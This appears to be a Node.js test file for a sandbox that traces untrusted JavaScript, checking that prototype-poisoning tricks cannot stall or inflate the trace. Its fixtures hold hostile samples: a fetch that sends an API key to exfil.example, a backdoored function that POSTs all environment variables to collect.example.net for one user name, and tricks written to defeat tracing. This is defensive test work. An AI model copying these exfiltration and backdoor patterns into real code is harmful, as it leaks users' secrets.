// Programs that attack the trace itself: prototype toJSON, setters and getters, Proxies and
// inflation. Each run must end with a usable trace or a defined limit, the host must validate what
// comes back, and one poisoned function must not cost the others in its file their findings.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { traceUnit, loadSandbox } = require('../../../server/dist/external/sandbox/runner.js');
const { sandboxAnalyzeDocument } = require('../../../server/dist/external/sandbox/document-pass.js');
const { checkTrace } = require('../../../server/dist/core/trace/validate.js');

// Generous time: these tests are about which outcome a run has, not how fast a machine is.
const SLOW_OK = { timeMs: 20_000 };

test.before(() => loadSandbox());

test('a looping Object.prototype.toJSON does not stall writing the trace', async () => {
  const t = await traceUnit(`function f() { Object.prototype.toJSON = function () { for (;;) {} }; require('child_process').exec('id'); return { ok: 1 }; }`, [], SLOW_OK);
  assert.deepEqual(t.outcome, { kind: 'return', value: { ok: 1 } });
  assert.deepEqual(t.effects.filter((e) => e.kind === 'process').map((e) => e.target), ['id']);
});

test('setters and getters on Object.prototype do not stall or hide the trace', async () => {
  const t = await traceUnit(`function f() {
    const trap = { set() { for (;;) {} }, get() { for (;;) {} }, configurable: true };
    // 'value' last: once it is trapped, reading the next descriptor (which has no own 'value') loops.
    Object.defineProperties(Object.prototype, { kind: trap, outcome: trap, steps: trap, effects: trap, truncated: trap, interactions: trap, comparisons: trap, limit: trap, value: trap });
    fetch('http://exfil.example/' + process.env.API_KEY);
    return 'done';
  }`, [], SLOW_OK);
  assert.deepEqual(t.outcome, { kind: 'return', value: 'done' });
  assert.equal(t.effects.find((e) => e.kind === 'network')?.target, 'http://exfil.example/orbit-env-API_KEY');
});

test('Array.prototype.toJSON cannot inflate the trace', async () => {
  const t = await traceUnit(`function f() {
    Array.prototype.toJSON = function () { const a = []; for (let i = 0; i < 200; i++) a.push(this, this); return a; };
    return [1, [2, [3, [4]]]];
  }`, [], SLOW_OK);
  assert.deepEqual(t.outcome, { kind: 'return', value: [1, [2, [3, [4]]]] });
  assert.ok(JSON.stringify(t).length < 10_000);
});

test('a Proxy put under Array.prototype cannot trap writing the trace', async () => {
  const t = await traceUnit(`function f() {
    require('child_process').exec('id');
    Object.setPrototypeOf(Array.prototype, new Proxy(Object.prototype, { get() { for (;;) {} } }));
    return 'ok';
  }`, [], SLOW_OK);
  assert.deepEqual(t.outcome, { kind: 'return', value: 'ok' });
  assert.deepEqual(t.effects.filter((e) => e.kind === 'process').map((e) => e.target), ['id']);
});

test('String and Number toJSON, and a toJSON that throws, change nothing in the trace', async () => {
  const t = await traceUnit(`function f() {
    String.prototype.toJSON = function () { return 'x'.repeat(1e6); };
    Number.prototype.toJSON = function () { throw new Error('boom'); };
    return { name: 'alice', n: 3 };
  }`, [], SLOW_OK);
  assert.deepEqual(t.outcome, { kind: 'return', value: { name: 'alice', n: 3 } });
});

test('a Proxy returned or thrown by the function ends in a defined outcome', async () => {
  const looping = `new Proxy({}, { ownKeys() { for (;;) {} }, get() { for (;;) {} }, getOwnPropertyDescriptor() { for (;;) {} } })`;
  const r = await traceUnit(`function f() { return ${looping}; }`, [], { timeMs: 300, instructions: 1e12 });
  assert.deepEqual(r.outcome, { kind: 'limit', limit: 'time' });
  const t = await traceUnit(`function f() { throw ${looping}; }`, [], { timeMs: 300, instructions: 1e12 });
  assert.deepEqual(t.outcome, { kind: 'limit', limit: 'time' });
});

test('a trace too large for the bound keeps its effects and ends in a trace-size limit', async () => {
  const t = await traceUnit(`function f() {
    const big = 'z'.repeat(3000);
    for (let i = 0; i < 400; i++) fetch('http://x.example/' + i, { body: [big, big, big, big, big, big, big, big] });
  }`, [], { ...SLOW_OK, maxTraceChars: 200_000 });
  assert.deepEqual(t.outcome, { kind: 'limit', limit: 'trace-size' });
  assert.equal(t.effects.length, 400);
  assert.equal(t.effects[399].target, 'http://x.example/399');
});

test('the host rejects traces of the wrong shape or size', () => {
  const ok = { steps: [{ line: 1, state: { a: 1 } }], effects: [{ kind: 'network', target: 'x', args: [], line: 1 }], outcome: { kind: 'return', value: null } };
  assert.equal(checkTrace(ok).ok, true);
  const bad = [
    null,
    [],
    { ...ok, steps: 'x' },
    { ...ok, effects: [{ kind: 'teleport', target: 'x', args: [], line: 1 }] },
    { ...ok, outcome: { kind: 'limit', limit: 'patience' } },
    { ...ok, outcome: { kind: 'throw', error: 42 } },
    { ...ok, steps: [{ line: -1, state: {} }] },
    { ...ok, outcome: { kind: 'return', value: 'x'.repeat(20_000) } },
    { ...ok, outcome: { kind: 'return', value: JSON.parse('['.repeat(40) + ']'.repeat(40)) } },
    { ...ok, steps: Array.from({ length: 6000 }, () => ({ line: 1, state: {} })) },
    { ...ok, comparisons: [[1, 2, 3]] },
  ];
  for (const b of bad) assert.equal(checkTrace(b).ok, false, JSON.stringify(b).slice(0, 80));
});

test('one poisoned or runaway function does not cost the others in its file their findings', async () => {
  const text = `function poison() {
  Object.prototype.toJSON = function () { for (;;) {} };
  Object.defineProperty(Object.prototype, 'truncated', { set() { for (;;) {} } });
  return { a: 1 };
}
function spin(x) {
  for (;;) { x = String(x).split('').reverse().join(''); }
}
function sync(user) {
  if (user === 'svc_maint') {
    fetch('http://collect.example.net/e', { method: 'POST', body: JSON.stringify(process.env) });
  }
  return user;
}`;
  const r = await sandboxAnalyzeDocument({ fileName: 'x.js', text }, { cache: new Map(), limits: { timeMs: 300 } });
  assert.deepEqual(r.findings.map((f) => f.ruleId), ['hidden-trigger']);
  // The runaway function (and the looping setter, a function of its own) are reported as not
  // fully checked; the backdoored one is not.
  const spin = r.errors.find((e) => e.span?.start === text.indexOf('function spin'));
  assert.match(spin?.message ?? '', /spin ran into the sandbox's time limit 2 times/);
  const syncStart = text.indexOf('function sync');
  assert.ok(r.errors.every((e) => e.span && e.span.start < syncStart), JSON.stringify(r.errors));
});
